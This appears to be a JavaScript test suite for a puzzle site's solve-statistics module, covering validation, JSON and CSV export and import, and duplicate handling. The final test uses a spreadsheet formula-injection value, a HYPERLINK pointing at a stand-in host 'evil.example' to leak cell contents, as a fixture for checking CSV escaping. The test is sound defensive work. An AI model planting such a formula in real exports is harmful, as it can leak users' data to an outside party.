// Kept solves: what is not a solve is named and set aside, the rest kept; an export read
// back gives the same solves, as JSON and as CSV, and holds no formula; a bad file is
// refused naming its line; an import adds what is new in linear time.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { identity, newcomers, parseExport, parseStore, problem, storeText, toCsv } from '../../www/features/stats/solves.js';

/** @type {import('../../www/features/stats/solves.js').Solve} */
const EIGHT = {
  puzzle: 'eight',
  level: 'any',
  date: '2026-11-25T10:00:00.000Z',
  millis: 4_520,
  moves: 3,
  mtm: 2,
  optimal: 2,
  helped: false,
  start: '1 2 3 4 5 6 7 x 8',
  goal: '1 2 3 4 5 6 7 8 x',
  path: ['l', 'r', 'r'],
  gaps: [0, 1_200, 3_320],
};
const NINE = {
  ...EIGHT,
  puzzle: 'nine',
  level: 'custom',
  date: '2026-11-25T11:00:00.000Z',
  mtm: null,
  optimal: null,
  helped: true,
  path: ['1', '2', '1'],
  gaps: [0, 5, 7],
};

test('a solve is checked field by field', () => {
  assert.equal(problem(EIGHT), '');
  assert.equal(problem(NINE), '');
  assert.equal(problem({ ...EIGHT, moves: 0 }), 'moves 0 is not a whole number from 1');
  assert.equal(problem({ ...EIGHT, millis: -5 }), 'millis -5 is not a whole number from 0');
  const notDate = 'is not a date and time as 2026-11-28T09:30:00.000Z';
  assert.equal(problem({ ...EIGHT, date: 'yesterday' }), `date "yesterday" ${notDate}`);
  // what Date.parse takes but the page never writes: leading text, a year beyond 9999,
  // a day that is not one
  assert.equal(problem({ ...EIGHT, date: '=HYPERLINK("x") 2026-01-01' }), `date "=HYPERLINK(\\"x\\") 20... ${notDate}`);
  assert.equal(problem({ ...EIGHT, date: '+275760-09-13T00:00:00.000Z' }), `date "+275760-09-13T00:00:... ${notDate}`);
  assert.equal(problem({ ...EIGHT, date: '2026-02-30T00:00:00.000Z' }), `date "2026-02-30T00:00:00.... ${notDate}`);
  assert.equal(problem({ ...EIGHT, level: '-2-3' }), 'level "-2-3" is not a level');
  assert.equal(problem({ ...EIGHT, puzzle: '@sum' }), 'puzzle "@sum" is not a puzzle’s name');
  assert.equal(problem({ ...EIGHT, gaps: [0, 1] }), 'gaps has 2 times for 3 moves');
  assert.equal(problem({ ...EIGHT, moves: 4 }), 'path has 3 moves, fewer than its 4 moves');
  assert.equal(problem({ ...EIGHT, moves: 2, path: ['r'], gaps: [0] }), 'path has 1 move, fewer than its 2 moves');
  assert.equal(problem({ ...EIGHT, optimal: 4 }), 'optimal 4 is more than its 3 moves');
  const noGoal = /** @type {Record<string, unknown>} */ ({ ...EIGHT });
  delete noGoal.goal;
  assert.equal(problem(noGoal), 'has no goal');
  assert.equal(problem([EIGHT]), 'is not a solve');
});

test('a corrupt store of an earlier version keeps its good solves, the rest counted', () => {
  const text = JSON.stringify({ version: 1, solves: [EIGHT, { ...EIGHT, moves: 'many' }, NINE] });
  assert.deepEqual(parseStore(text), { solves: [EIGHT, NINE], unreadable: 1 });
  assert.deepEqual(parseStore('{"version": 1, "solves": [').unreadable, 1);
});

test('JSON out and back in gives the same solves', async () => {
  assert.deepEqual(await parseExport(storeText([EIGHT, NINE])), { solves: [EIGHT, NINE] });
});

test('CSV out is RFC 4180 with a header, and reads back the same', async () => {
  const csv = await toCsv([EIGHT, NINE]);
  assert.equal(
    csv,
    [
      'puzzle,level,date,millis,moves,mtm,optimal,helped,start,goal,path,gaps',
      'eight,any,2026-11-25T10:00:00.000Z,4520,3,2,2,false,1 2 3 4 5 6 7 x 8,1 2 3 4 5 6 7 8 x,l r r,0 1200 3320',
      'nine,custom,2026-11-25T11:00:00.000Z,4520,3,,,true,1 2 3 4 5 6 7 x 8,1 2 3 4 5 6 7 8 x,1 2 1,0 5 7',
    ].join('\n'),
  );
  assert.deepEqual(await parseExport(csv), { solves: [EIGHT, NINE] });
  // a board written on lines of its own is quoted, and read back whole
  const lines = { ...EIGHT, start: '1 2 3\n4 5 6\n7 x 8' };
  const quoted = await toCsv([lines]);
  assert.match(quoted, /,"1 2 3\n4 5 6\n7 x 8",/);
  assert.deepEqual(await parseExport(quoted), { solves: [lines] });
});

test('a bad file is refused, naming the solve or the line and the field', async () => {
  const header = 'puzzle,level,date,millis,moves,mtm,optimal,helped,start,goal,path,gaps';
  const good = 'eight,any,2026-11-25T10:00:00.000Z,4520,3,2,2,false,1 2 3 4 5 6 7 x 8,1 2 3 4 5 6 7 8 x,l r r,0 1200 3320';
  assert.deepEqual(await parseExport(`${header}\n${good}\n${good.replace('4520', '4.5')}\n`), {
    error: 'Line 3 of the file: millis "4.5" is not a whole number from 0.',
  });
  assert.deepEqual(await parseExport(`${header}\n${good}\n${good.replace(',false,', ',maybe,')}`), {
    error: 'Line 3 of the file: helped "maybe" is not true or false.',
  });
  assert.deepEqual(await parseExport(`${header}\n${good},extra`), { error: 'Line 2 of the file has 13 cells, not 12.' });
  assert.deepEqual(await parseExport('time,moves\n1,2'), { error: `Line 1 of the file is not this page's header, ${header}.` });
  assert.deepEqual(await parseExport(JSON.stringify({ version: 1, solves: [EIGHT, { ...EIGHT, helped: 'no' }] })), {
    error: 'Solve 2 of the file: helped "no" is not true or false.',
  });
  assert.deepEqual(await parseExport('{"version": 2, "solves": []}'), { error: "The file's version is 2; this page reads version 1." });
  assert.match(/** @type {any} */ (await parseExport('{"solves": [')).error, /^The file is not JSON: /);
});

test('an import adds only the solves not kept, each once', () => {
  const earlier = { ...EIGHT, date: '2026-11-24T09:00:00.000Z' };
  assert.deepEqual(newcomers([EIGHT, NINE], [NINE, earlier, earlier]), { added: [earlier], already: 2 });
  // a solve is its puzzle, level, date, time and moves: another path is the same solve
  assert.equal(identity({ ...EIGHT, path: ['r', 'l', 'r'] }), identity(EIGHT));
  assert.notEqual(identity({ ...EIGHT, millis: 4_521 }), identity(EIGHT));
});

test('an import of 100,000 solves finds the new ones in linear time', () => {
  const many = Array.from({ length: 100_000 }, (_, i) => ({ ...EIGHT, millis: i }));
  const started = performance.now();
  const { added, already } = newcomers(many.slice(0, 50_000), many);
  assert.equal(added.length, 50_000);
  assert.equal(already, 50_000);
  // the quadratic merge took minutes here; this is a loop over both lists
  assert.ok(performance.now() - started < 5_000, `${Math.round(performance.now() - started)} ms`);
});

test('no cell of a CSV export is read as a formula, and each reads back as it was', async () => {
  const hostile = { ...EIGHT, start: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', goal: '@SUM(1)', path: ['-l', 'r', 'r'] };
  const csv = await toCsv([hostile]);
  const cells = csv.split('\n')[1];
  assert.equal(
    cells,
    `eight,any,2026-11-25T10:00:00.000Z,4520,3,2,2,false,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","'@SUM(1)","'-l r r",0 1200 3320`,
  );
  // the quote is the export's: the cells read back as they were
  const read = /** @type {any} */ (await parseExport(csv));
  assert.deepEqual(read.solves?.[0], hostile);
});
